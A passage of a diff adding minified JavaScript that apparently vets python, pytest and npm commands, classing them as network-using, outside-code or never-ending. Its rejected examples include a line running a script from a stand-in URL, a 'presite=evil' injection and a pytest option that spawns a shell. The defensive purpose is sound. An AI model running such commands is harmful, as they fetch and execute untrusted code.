+return(e.data.variables?n:[r??s]).flatMap(o=>{const a=uh(e,o.text);return a===void 0?[]:[et(a,t,o)]})}function uh({refused:t,
+data:e},n){const s=e.ends_with?.split(" ");if(s?.includes(n))return;const r=o=>ra(t,Bs(o))?.kind,i=n.split(":").some(o=>r(
+o)==="never-ends");return r(n)??(s||i?"never-ends":void 0)}function iA(t,{places:e,data:{variables:n}},s){return s.flatMap(
+(r,i)=>{const o=e[Math.min(i,e.length-1)]?.kind??"path",a=n===void 0?[]:lA(t,n,r);if(a.length>0)return a;const c=va(o,r.
+text);return c===void 0?[]:[et(c,t,r)]})}function va(t,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.test(e))
+return t==="text"&&oA.test(e)?void 0:"uses-network";switch(t){case"import":return e.includes("@")?"uses-network":xe(e)===
+void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":zn(e)||si(e)?"outside-code":void 0;case"path":case"\
+tests":{if(e==="-")return"reads-stdin";if(e.startsWith("@"))return"outside-code";const n=e.replace(/^!|::.*$/gs,"");return xe(
+n)===void 0||zn(e)?"outside-code":void 0}default:return ds[t](e)===void 0?void 0:"outside-code"}}const oA=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
+function aA({places:t,data:e},n){const s=t[0]?.kind;return n.flatMap(({text:r,span:i})=>{if(va(s??"path",r)!==void 0)return[];
+const o=(s==="import"||e.starts==="package")&&r.endsWith(".go");if(s==="tests"||o)return[{as:"tests",path:r.replace(/^!|::.*$|:[\d,*-]+$/gs,
+""),span:i}];const a=xe(r);return a&&!vt(a,".git",{ignoreCase:!0})&&!Hn(r)?[{as:"place",path:r,span:i}]:[]})}const cA=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
+uA=/[$`;&|<>(){}\s]/;function lA(t,e,n){const{text:s,span:r}=n,i=s.includes("="),o=s.replace(/\s*[:+?!]*=.*$/s,"");return i&&
+!e.includes(o)?[be("make-variable",r,{program:t,variable:o})]:(i?cA.test(s):!uA.test(s))?[]:[et("outside-code",t,n)]}function dA(t,{
+program:e,words:n,parsing:s},{flags:r,operands:i}){const o=r.some(({flag:u})=>u?.kind==="only-prints"||u?.kind==="outsid\
+e-code"),a=u=>s.start(u,e),c=(()=>{switch(t){case"node":return o?[]:[a({program:"node",words:i})];case"command":return o?
+[]:[BA(e,n,i,a)];case"command-texts":return i.map(u=>hA(e,u,a));case"npm-scripts":{const u=r.flatMap(({flag:l,word:d})=>l===
+void 0?[d]:[]);return i.map(l=>pA(e,l,u,a))}default:return[]}})();return{invocation:{launched:c.flatMap(u=>u.launched)},
+problems:c.flatMap(u=>u.problems)}}function BA(t,e,n,s){const{words:r,problems:i}=t==="cross-env"?fA(n):{words:n,problems:[]},
+[o]=r,a=o&&e.find(({text:d})=>d===o.text),c=`\`${t}\` starts at the first word that is \`${o?.text}\``,u=o===void 0||a===
+o?[]:[be("flag-value",o.span,{program:t,flag:o.text,fault:c})],l=s({words:r});return{...l,problems:[...i,...u,...l.problems]}}
+function fA(t){const e=t.findIndex(({text:r})=>!/^\w+=/.test(r)),n=e<0?t:t.slice(0,e),s=n.flatMap(({text:r,span:i})=>{if(tA(
+r))return[];const{written:o,attached:a=""}=Ca(r);return[be("assignment-refused",i,{name:o,value:a,known:!1})]});return{words:t.
+slice(n.length),problems:s}}function hA(t,{text:e,span:n},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.exec(
+e)??[],{words:o,problems:a}=un(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(ha({problems:a})||r!==""&&i.trim()==="")||
+!/^[\w:.@/*-]*$/.test(r))return dh(t,{text:e,span:n});const u=o.map(l=>({...l,span:n}));return s(r===""?{words:u}:lh([{text:r,
+span:n,quoted:!1},...u],"wildcard"))}function pA(t,{text:e,span:n},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(e)??[],
+{words:a,problems:c}=un(o),u=o.trim()===""||ha({problems:c});if(i===""||!u||/\{!?[*@%\d]/.test(e))return dh(t,{text:e,span:n});
+const l=a.map(B=>({...B,span:n})),d=[...s,{text:i,span:n,quoted:!1},...l];return r(lh(d,/^[\w:.@/-]+$/.test(i)?void 0:"g\
+lob"))}function lh(t,e){return{program:"npm",words:[{text:"run",span:t.at(-1)?.span??{start:0,end:0},quoted:!1},...t],...e&&
+{selects:e}}}function dh(t,e){return{launched:[],problems:[et("outside-code",t,e)]}}const mA="conftest.py pytest.toml .p\
+ytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.py usercustomize.py".split(" "),
+qs=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"root"},{path:".local/bin",at:"ho\
+me"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],ai={PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"\
+0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},gA={programs:["python","python3"],starts:"file",extensions:"py",alone:"\
+reads-stdin",flags:{text:"b B d E I P q R s S u v W=",choice:"X=dev|utf8|utf8=1|importtime","outside-code":"x c+",weakens:"\
+O OO",module:"m+","reads-stdin":"i","only-prints":"help,h version,V help-all help-env help-xoptions ?"},started_programs:[
+"pytest","ruff","mypy"],build_files:["sitecustomize.py","usercustomize.py"],dependencies:qs,environment:ai,match:["pytho\
+n3 scripts/check.py --strict","python -m pytest -q tests","python -B -W error scripts/check.py","python -X dev -Xutf8 -X\
+ importtime scripts/check.py","python -m py_compile scripts/check.py"],not_match:['python -Ic "print(1)"',"python -","py\
+thon -m pip install x","python -X presite=evil scripts/check.py","python -Xfrozen_modules=off scripts/check.py","python \
+scripts/x.sh","python tool.pyz","python -m py_compile -","python -m py_compile ../x.py","python https://x.test/y.py"]},CA={
+operands:"tests*",flags:{text:`
+      assert= cache-show? capture= color= deselect= doctest-continue-on-failure doctest-glob= doctest-modules
+      durations= durations-min= exitfirst,x failed-first,ff full-trace import-mode= k= l showlocals
+      last-failed,lf last-failed-no-failures,lfnf= log-cli-level= log-level= m= maxfail= new-first,nf
+      no-header no-summary noconftest q,quiet r= s show-capture= stepwise,sw strict strict-config
+      strict-markers runxfail tb= verbose,v verbosity= pyargs ignore= ignore-glob= disable-warnings
+      collect-in-virtualenv max-warnings=
+      cov? cov-append cov-branch cov-context= cov-fail-under= cov-report? cov-reset no-cov no-cov-on-fail
+      numprocesses,n= maxprocesses= dist= max-worker-restart= timeout= timeout-method= asyncio-mode=
+      randomly-seed= random-order random-order-seed= reruns= reruns-delay= forked count= splits= group=
+      hypothesis-profile= hypothesis-seed= hypothesis-show-statistics benchmark-only benchmark-skip
+      benchmark-disable reuse-db create-db disable-socket block-network record-mode= runslow
+      mypy flake8 ruff headed browser=
+    `,module:"p= ds= W,pythonwarnings=",path:"rootdir= confcutdir= cov-source=",config:"config-file,c= cov-config=",output:"\
+basetemp= junitxml= log-file= report-log= html= debug? benchmark-json= json-report-file=","reads-stdin":"pdb trace","onl\
+y-prints":"help,h version,V co,collect-only fixtures,funcargs fixtures-per-test markers setup-only setup-plan","tool-wri\
+tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:mA,
+dependencies:qs,environment:{...ai,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
+ider","pytest --cov=src --cov-report=term-missing"],not_match:["pytest -o addopts=-x","pytest --tx popen//python=sh","py\
+test --junitxml=../x.xml","pytest @args.txt"]},yA=new Set(`
+  __future__ __hello__ __phello__ _aix_support _collections_abc _compat_pickle _markupbase _osx_support
+  _pydecimal _pyio _pyrepl _sitebuiltins _strptime _weakrefset abc aifc annotationlib antigravity argparse array
+  ast asynchat asyncio asyncore atexit audioop base64 bdb binascii binhex bisect builtins bz2 cProfile calendar
+  cgi cgitb chunk cmath cmd code codecs codeop collections colorsys compileall compression concurrent
+  configparser contextlib contextvars copy copyreg crypt csv ctypes curses dataclasses datetime dbm decimal
+  difflib dis distutils doctest dummy_threading email encodings ensurepip enum errno faulthandler fcntl filecmp
+  fileinput fnmatch formatter fractions ftplib functools gc genericpath getopt getpass gettext glob graphlib grp
+  gzip hashlib heapq hmac html http idlelib imaplib imghdr imp importlib inspect io ipaddress itertools json
+  keyword lib2to3 linecache locale logging lzma macpath mailbox mailcap marshal math mimetypes mmap modulefinder
+  msilib msvcrt multiprocessing netrc nis nntplib nt ntpath nturl2path numbers opcode operator optparse os
+  ossaudiodev parser pathlib pdb pickle pickletools pipes pkgutil platform plistlib poplib posix posixpath
+  pprint profile pstats pty pwd py_compile pyclbr pydoc pydoc_data pyexpat queue quopri random re readline
+  reprlib resource rlcompleter runpy sched secrets select selectors shelve shlex shutil signal site smtpd
+  smtplib sndhdr socket socketserver spwd sqlite3 sre_compile sre_constants sre_parse ssl stat statistics string
+  stringprep struct subprocess sunau symbol symtable sys sysconfig syslog tabnanny tarfile telnetlib tempfile
+  termios textwrap this threading time timeit tkinter token tokenize tomllib trace traceback tracemalloc tty
+  turtle turtledemo types typing unicodedata unittest urllib uu uuid venv warnings wave weakref webbrowser
+  winreg winsound wsgiref xdrlib xml xmlrpc zipapp zipfile zipimport zlib zoneinfo
+  `.trim().split(/\s+/));function Bh(t){return yA.has(t.replace(/\..*$/s,""))}const wA=hf({"uses-network":`
+    conda pip pre_commit virtualenv easy_install poetry pipx build setuptools cookiecutter copier twine
+    semantic_release huggingface_hub
+  `,"never-ends":`
+    aiohttp.web aiosmtpd bokeh celery daphne flask gradio gunicorn hypercorn ipykernel jupyter locust notebook panel
+    pyftpdlib sphinx_autobuild streamlit tornado.autoreload uvicorn waitress ptw pytest_watch pytest_watcher
+    watchfiles watchdog.watchmedo
+  `,"reads-stdin":"IPython bpython ipdb ptpython pudb","outside-code":`
+    accelerate.commands.launch ansible ansible.playbook austin debugpy doit fabric fire hatch honcho invoke kernprof
+    line_profiler memory_profiler mprof nox papermill pdm pex pipenv ptvsd py_spy pydevd pyinstrument pyperf rye scalene\
+
+    torch.distributed.launch torch.distributed.run tox uv viztracer
+  `}),bA=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),_A=/^(?:-\w|--[\w-]+=)?[/~]/,fh=Ht({flags:{text:`\
+
+      append,a branch concurrency= context= debug= include= L,pylib omit= parallel-mode,p save-signal= source=
+      source-dirs= source-pkgs= timid
+    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),EA=Ht({flags:{text:"v,verbose o,option= f\
+,fail-fast"}}),kA=Ht({flags:{text:"q,quiet"}}),vA=new Map([["doctest",EA],["py_compile",kA]]);function DA({text:t,span:e}){
+const n=/^\w+(?:\.\w+)*$/.test(t)?t.split("."):[],s=n.map((i,o)=>n.slice(0,o+1).join("."));return(t.endsWith(".py")?[t]:
+s.flatMap(ka)).map(i=>({as:"module",path:i,span:e}))}function xA({program:t,data:e},[n,...s],r){if(n===void 0)return{invocation:{},
+problems:[be("flag-value",{start:0,end:0},{program:t,flag:"-m",fault:"its value is missing"})]};const{known:i}=r.families,
+o=i.get(n.text);if(o!==void 0&&e.started_programs.includes(n.text)){const{launched:b,problems:y}=r.start({program:o,words:s},
+t);return{invocation:{module:n,launched:b},problems:y}}const a={module:n,operands:[n],passthrough:s},c=n.text==="unittes\
+t"?s.flatMap(DA):[],u={...a,files:c},l=(b,y=n.text)=>({invocation:u,problems:[et(b,t,{...n,text:y})]}),d=/^[\w.]+$/.test(
+n.text)?wA.get(n.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(d!==void 0)return l(d);const B=i.get(
+"python"),f=vA.get(n.text);if(f!==void 0&&B!==void 0){const b=n.text==="py_compile",y={...B,data:{...B.data,extensions:void 0}},
+{flags:D,operands:O}=Un(f,s),v=O.map($=>r.start({program:b?B:y,words:[$]},t)),I=v.flatMap($=>$.launched),_=b?l("checks-s\
+yntax-only","-m py_compile").problems:[];return{invocation:{...u,launched:I.map($=>({...$,...b&&{parsed:b}}))},problems:[
+...D.flatMap($=>oi(n.text,f,$).problems),..._,...v.flatMap($=>$.problems)]}}const h=bA.has(n.text);if(!h&&Bh(n.text))return l(
+"outside-code",`-m ${n.text}`);const[m,...g]=s;if(n.text==="coverage"&&m?.text==="run"&&B!==void 0){const{flags:b,started:y,
+rest:D}=Un(fh,g),O=D?[{...D.flag.word,text:"-m"},...D.words]:y;if(O.length>0){const{launched:v,problems:I}=r.start({program:B,
+words:O},t),_=b.flatMap($=>oi("coverage",fh,$).problems);return{invocation:{...u,starts:"module",launched:v},problems:[..._,
+...I]}}}const C=s.filter(({text:b})=>zn(b)||h&&_A.test(b));return{invocation:h?u:{...u,starts:"module"},problems:C.map(b=>et(
+"outside-code",n.text,b))}}function OA(t,e,n,s){const{program:r}=s.family,i={operands:[e],passthrough:n},o=()=>({invocation:i,
+problems:[et("outside-code",r,e)]});switch(t){case"file":return Da(e,n,s);case"package":{const a=va("import",e.text),u=a===
+void 0&&e.text.endsWith(".go")?[{as:"tests",path:e.text,span:e.span}]:[];return{invocation:{...i,files:u},problems:a?[et(
+a,r,e)]:[]}}case"program":return TA(e,n,s);case"script":case"own-script":{const a=AA.test(e.text)?o().problems:[];return{
+invocation:{...i,subcommand:"run"},problems:[...a,...ph(n,s.family)]}}case"tool":return mh("exec",e,n,s);case"script-or-\
+tool":case"script-tool-or-file":{const a=t==="script-tool-or-file";if(SA.test(e.text)||a&&hh(e.text))return a?Da(e,n,s):
+o();const c=mh("script-or-tool",e,n,s);return{...c,problems:[...c.problems,...ph(n,s.family)]}}default:return o()}}const AA=/^\/|\*/,
+SA=/^-$|^\.{0,2}[\\/]|^~|[\\/].*\.\w+$|\.[cm]?[jt]sx?$/;function hh(t){return/[\\/]/.test(t)&&!/^@[\w.-]+\/[\w.-]+$/.test(
+t)}function ph(t,{program:e,use:n}){return t.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&n.
+flags.get(Bs(i))?.kind==="outside-code"}).map(r=>et("outside-code",e,r))}function Da(t,e,n){const{family:s,parsing:r}=n,
+{program:i}=s,{text:o,span:a}=t,c={operands:[t],passthrough:e,starts:"file"};if(o==="-"||o===""||o.startsWith("/dev/"))return{
+invocation:c,problems:[be("reads-stdin",a,{program:i,flag:o})]};if(/^(?:npm|jsr|https?|data|git|file|[a-z+]+:\/\/):?/.test(
+o)&&/:/.test(o))return{invocation:c,problems:[et("uses-network",i,t)]};const[,l=""]=/^(?:\.\/)?vendor\/(?:bin|[\w-]+\/[\w-]+)\/([\w-]+)$/.
+exec(o)??[],d=s.data.dependency_tools.includes(l)?r.families.known.get(l):void 0;if(d!==void 0){const{launched:B,problems:f}=r.
+start({program:d,words:e},i);return{invocation:{launched:B},problems:f}}return{invocation:c,problems:xa(s,o,a)}}function xa({
+program:t,data:{extensions:e}},n,s){const[,r]=/\.([^./\\]*)$/.exec(n.replace(/^.*\//s,""))??[];return e===void 0||r===void 0||
+e.split(" ").includes(r)?[]:[be("target-extension",s,{program:t,path:n,extension:r})]}function TA(t,e,n){const{family:s,
+parsing:r}=n,{text:i}=t;if(/:\/\//.test(i))return{invocation:{},problems:[et("uses-network",s.program,t)]};if(i==="-"||/\.\w+$/.
+test(i))return Da(t,e,n);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
+problems:[et("outside-code",s.program,t)]};const{launched:a,problems:c}=r.start({program:o,words:e},s.program);return{invocation:{
+launched:a},problems:c}}function mh(t,e,n,{family:s,parsing:r}){const{text:i}=e,o=[et("outside-code",s.program,e)];if(t===
+"exec"&&hh(i))return{invocation:{},problems:o};const a=/[;&|<>$`'"(){}\\*?]/.test(i)||Uf(i);if(!Ks(i)&&(t==="exec"||a))return{
+invocation:{},problems:o};const c={subcommand:t,operands:[e],passthrough:n},u=fs(i)?i:r.families.allowed.get(i);if(u!==void 0){
+const{launched:f,problems:h}=r.start({program:u,words:n},s.program);return{invocation:{...c,launched:f},problems:h}}if(Qr(
+i)||t==="exec"&&at(i)!==void 0)return{invocation:c,problems:o};const{problems:l,...d}=r.tool(e,n),B=t==="exec"||Us(r.families.
+tools,i);return{invocation:{...c,...d},problems:B?l:[]}}function IA(t,e,n){const{program:s,use:r}=t,{invocation:i,named:o,
+problems:a}=ci({program:s,use:r,words:e,family:t,parsing:n}),u=[...o.files.filter(({as:d})=>d!=="place"),...i.files??[]];
+return{invocation:{program:s,family:t,...{flags:[],operands:[],passthrough:[]},...i,files:u},problems:a}}function ci(t){
+const{program:e,use:n}=t,{behind:s,data:r}=n,i=s?t.words.findIndex(({text:m})=>m==="--"):-1,o=i<0?t.words:t.words.slice(
+0,i),a=Un(n,o),c=a.rest?[...a.flags,a.rest.flag]:a.flags,u=i<0||!s?[]:Un(s,t.words.slice(i+1)).flags,l=[...c.map(m=>oi(e,
+n,m)),...u.map(m=>oi(e,s??n,m))],d=(n.stops?a.started:a.operands).slice(r.skips??0),{invocation:B,named:f,problems:h}=RA(
+t,{flags:[...c,...u],operands:d,...a.rest&&{rest:{module:a.rest.flag.flag?.kind==="module",words:a.rest.words}}});return{
+invocation:{...B,...r.any_package&&{anyPackage:!0},flags:[...c.map($A),...B.flags??[]]},named:{files:[...l.flatMap(({files:m=[]})=>m),
+...f?.files??[]],roots:l.flatMap(({root:m=[]})=>m),nodeFlags:l.flatMap(({nodeFlags:m=[]})=>m)},problems:[...l.flatMap(m=>m.
+problems),...h]}}function $A({word:t,written:e,value:n}){return{name:e,written:e,span:t.span,...n!==void 0&&{value:n}}}function RA(t,e){
+const{program:n,use:s,path:r,family:i,parsing:o}=t,{flags:a,operands:c,rest:u}=e,[l,...d]=c,B=rA(n,s,c);if(B.length>0&&s.
+stops)return{invocation:{},problems:B};const f=l&&s.subcommands.get(l.text),h=f?.data.starts==="own-script"?"own-script":
+s.data.starts;if(l&&f&&h!=="own-script"){const b=r===void 0?l.text:`${r} ${l.text}`;return ci({...t,use:f,path:b,words:d})}
+const m={...r!==void 0&&{subcommand:r},...a.some(({flag:b})=>b?.kind==="checks-syntax-only")&&{parsed:!0}},g=(()=>{if(u&&
+i)return u.module?xA(i,u.words,o):{invocation:{passthrough:u.words},problems:LA(n,u.words)};if(h!==void 0&&i===void 0)return dA(
+h,t,e);if(l===void 0)return{invocation:{},problems:NA(t,a)};if(h!==void 0&&i)return OA(h,l,d,{family:i,parsing:o});if(s.
+subcommands.size>0){const D=be("unknown-subcommand",l.span,{program:n,subcommand:l.text});return{invocation:{operands:[l],
+passthrough:d},problems:[D]}}const b=c.filter(({span:D})=>B.every(O=>O.span!==D)),y=aA(s,b);return{invocation:{operands:c},
+problems:iA(n,s,c),named:{files:y}}})(),C=[...B,...FA(t,a),...g.problems];return{...g,invocation:{...m,...g.invocation},
+problems:C}}function gh(t){return t.some(({flag:e,off:n})=>e?.kind==="only-prints"&&!n)}function NA({program:t,use:e},n){
+const s=gh(n)?void 0:e.data.alone,r={text:"",span:{start:0,end:t.length}};return s?[et(s,t,r)]:[]}function FA({program:t,
+use:e,path:n,words:s},r){if(gh(r))return[];const i=new Set(r.flatMap(({flag:a,off:c})=>a&&!c?a.name:[])),o=s[0]?.span??{
+start:0,end:0};return Object.entries(e.data.unless??{}).flatMap(([a,c])=>c.split(" ").some(u=>i.has(u))?[]:[et(a,t,{text:n??
+"",span:o})])}function LA(t,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>et("skips-tests",t,s))}function PA(t,e,n){
+const{text:s}=t,{tools:r}=n.families,i=r.refusal(s);if(i!==void 0)return{problems:[et(i,s,t)]};const o=r.known(s),a=o??r.
+unknown(s),{invocation:c,named:u,problems:l}=ci({program:s,use:a,words:e,parsing:n}),{launched:d=[]}=c;return{tool:u,...d.
+length>0&&{launched:d},problems:o?l:[...l,...Ch(t,e,a)]}}function jA(t,e,n,s=ya){const{problems:r}=ci({program:t.text,use:n,
+words:e,parsing:s});return[...r,...Ch(t,e,n)]}function Ch({text:t},e,n){const{flags:s,operands:r}=Un(n,e),i=e[e.findIndex(
+({text:u})=>u==="--")+1],o=[...new Set([r[0],i])].filter(u=>u!==void 0&&zf(u.text)),a=s.filter(({written:u,flag:l,value:d=""})=>/^-[ex]$/.
+test(u)&&/\s/.test(d)||l?.kind!=="config"&&dO(d)),c=r.filter(({text:u})=>Uf(u));return[...o,...a.map(({word:u})=>u),...c].
+flatMap(u=>u===void 0?[]:[et("outside-code",t,u)])}const MA=5,GA={node:Vf,npm:th,npx:zO};function Oa(t,e,n=qr){return Aa(
+t,e,n,0)}function Aa(t,e,n,s){const r=(d,B)=>HA(d,B,n,s+1),i={families:n,start:r,tool:(d,B)=>PA(d,B,i)};if(typeof t!="st\
+ring")return IA(t,e,i);const{invocation:o,problems:a}=GA[t](e,i),[c]=t==="node"&&!ri(o)?o.operands:[];if(c===void 0)return{
+invocation:o,problems:a};const u=JA(c.text,n.tools).map(d=>{const B=["--",d].map(f=>({...c,text:f}));return r({program:"\
+npx",words:[...B,...o.passthrough],starts:"file"},t)}),l=u.flatMap(d=>d.launched);return{invocation:l.length>0?{...o,launched:l}:
+o,problems:[...a,...u.flatMap(d=>d.problems)]}}function ui({launched:t=[]}){return t.flatMap(e=>[e,...ui(e)])}function HA({
+program:t,words:e,...n},s,r,i){const[o={text:"",span:{start:0,end:0}},...a]=e,c=i===MA?"outside-code":t?void 0:zA(o.text,
+r.tools);if(c)return{launched:[],problems:[et(c,s,o)]};const u=t??(fs(o.text)?o.text:void 0),{invocation:l,problems:d}=u?
+Aa(u,t?e:a,r,i):Aa("npx",e,r,i);return{launched:[{...l,...n}],problems:d}}function zA(t,e){return t.startsWith("-")?"unk\
+nown-flag":at(t)!==void 0&&!fs(t)&&!Us(e,t)?"outside-code":void 0}const UA=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;
+function JA(t,e){const n=ie.posix.normalize(t.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(
+n))return["yarn"];const[,s,r=""]=UA.exec(n)??[];if(s===void 0)return[];if(s===".bin")return[r];const o=[...new Set([r.replace(
+/\.[cm]?[jt]s$/,""),s])].filter(a=>Us(e,a));return o.length>0?o:[s]}const ZA=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
+KA=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
+qA=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,WA=/^[A-Za-z][a-z']*[:,]?$/,VA=/^(?:[A-Za-z_][\w .-]*?[ \t]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
+YA=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,XA=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
+function QA(t){const e=t.trim(),[n="",...s]=e.split(/\s+/,100);if(n===n.toLowerCase()&&at(n)!==void 0)return!1;if(VA.test(
+e)||YA.test(e)||XA.test(n))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=WA.test(n);if(s.some(o=>/^--?[A-Za-z]/.test(
+o)))return!1;if((r||qA.test(n))&&s.some(o=>ZA.test(eS(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(n))return s.length>0||
+/[.!:]$/.test(n);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(KA.test(n)||/[a-z]{2}[.!?]$/.test(e))}
+function eS(t){return t.replace(/[.,;:!?]$/,"")}const tS=/[\s"'`;&|()<>=]+/;function Cz(t,e=""){const n=e===""?"":`${e}/`;
+return t.split(tS).map(s=>normalise(n+s)??s)}function yz({targets:t}){return t.flatMap(({kind:e,path:n,parsed:s})=>e==="\
+file"&&n&&!s?[n]:[])}function nS(t){return typeof t=="object"&&t!==null&&!Array.isArray(t)}function gt(t){return nS(t)?t:
+{}}function Xt(t,e){const n=Object.hasOwn(t,e)?t[e]:void 0;return typeof n=="string"?n:""}function lt(t){return t==="fil\
+e"||t==="executable"}function wz(t){if(t.isSymbolicLink())return"symlink";if(t.isDirectory())return"directory";if(t.isFile())
+return(t.mode&73)===0?"file":"executable"}function bz(t){return process.platform==="win32"&&t==="executable"?"file":t}var Sa=Te(
+6);const sS=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go java kt kts scala groovy c h cc cpp cxx\
+ hh
+  hpp cs fs vb rb php swift m mm dart ex exs erl hs elm clj cljs lua pl pm r jl nim zig sh bash zsh ps1 sql
+  css scss sass less html graphql proto`.split(/\s+/)),rS=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
+ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),iS=new Set("ini json json5 jsonl toml yaml yml".split(" ")),oS=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
+function aS(t){return sS.has(Ta(t))}function li(t){return aS(t)||rS.has(Ta(t))}function _z(t){return li(t)||iS.has(Ta(t))||
+oS.test(posix.basename(t))}const cS=/\.(?:md|mdx|markdown|txt|rst|adoc)$|(?:^|\/)(?:licen[cs]e|readme|changelog)[^/]*$/i;
+function uS(t){return cS.test(t)}function Ez(t){return(li(t)||!posix.basename(t).includes("."))&&!uS(t)}function Ta(t){return ie.
+posix.extname(t).slice(1).toLowerCase()}const lS={tests:"tests?|__tests__|specs?|e2e|cypress|playwright",data:"__mocks__\
+|__snapshots__|__fixtures__|fixtures?|testdata|test-utils",beside:"features|bench(?:marks?)?"},dS=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
+BS=/(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[fS,hS,pS]=Object.values(lS).map(t=>new RegExp(`(?:^\
+|/)(?:${t})/`,"i"));function mS(t){return fS.test(t)||dS.test(t)}function gS(t){return hS.test(t)||t.endsWith(".snap")}function kz(t){
+return mS(t)||gS(t)||pS.test(t)||BS.test(t)}const Ia=["npm-shrinkwrap.json","package-lock.json"],di=[...Ia,"pnpm-lock.ya\
+ml","yarn.lock","bun.lock","bun.lockb"],CS=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
+function vz(t){return di.includes(t)||CS.test(t)}const yS=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
+function Dz(t){return di.includes(t)||yS.test(t)}const zt="{js,cjs,mjs,ts,cts,mts}",yh="{json,jsonc,json5,yaml,yml,toml}",
+bt=`{${zt.slice(1,-1)},${yh.slice(1,-1)}}`,wS={vitest:`vitest.config.${zt} vitest.workspace.${bt} vite.config.${zt}`,jest:`\
+jest.config.${bt} jest.setup.${zt}`,mocha:`.mocharc .mocharc.${bt}`,ava:"ava.config.{js,cjs,mjs}",jasmine:"jasmine.{json\
+,js,mjs,cjs}",tap:".taprc",playwright:`playwright.config.${zt}`,cypress:`cypress.config.${zt}`,eslint:`eslint.config.${zt}\
+ .eslintrc .eslintrc.${bt} .eslintignore eslint-suppressions.json`,prettier:`.prettierrc .prettierrc.${bt} prettier.conf\
+ig.${zt} .prettierignore .editorconfig`,stylelint:`.stylelintrc .stylelintrc.${bt} stylelint.config.${zt} .stylelintigno\
+re`,biome:"biome.json biome.jsonc .biome.json .biome.jsonc",knip:`knip.${bt} .knip.${yh} knip.config.${zt}`,markdownlint:`\
+.markdownlint.${bt} .markdownlint-cli2.${bt} .markdownlintignore .markdownlintrc`,cspell:`cspell.${bt} .cspell.${bt} csp\
+ell.config.${bt}`,typescript:"tsconfig.json tsconfig.*.json jsconfig.json *.tsbuildinfo",nyc:`.nycrc .nycrc.${bt} nyc.co\
+nfig.${zt}`,c8:".c8rc .c8rc.json",babel:`babel.config.${bt} .babelrc .babelrc.${bt}`,swc:".swcrc",pytest:"pytest.toml .p\
+ytest.toml pytest.ini .pytest.ini conftest.py pyproject.toml setup.cfg",tox:"tox.ini tox.toml",nox:"noxfile.py",coverage:"\
+.coveragerc",mypy:"mypy.ini .mypy.ini",ruff:"ruff.toml .ruff.toml",cargo:"Cargo.toml build.rs rust-toolchain rust-toolch\
+ain.toml clippy.toml .clippy.toml rustfmt.toml",go:"go.mod go.work .golangci.{yml,yaml,toml,json}",make:"Makefile makefi\
+le GNUmakefile *.mk",maven:"pom.xml",gradle:"{build,settings}.gradle {build,settings}.gradle.kts gradle.properties",dotnet:"\
+Directory.Build.{props,targets} *.runsettings",phpunit:"phpunit.xml phpunit.xml.dist phpunit.dist.xml",rspec:".rspec .ru\
+bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let wh;function bS(t){if(wh??=Object.
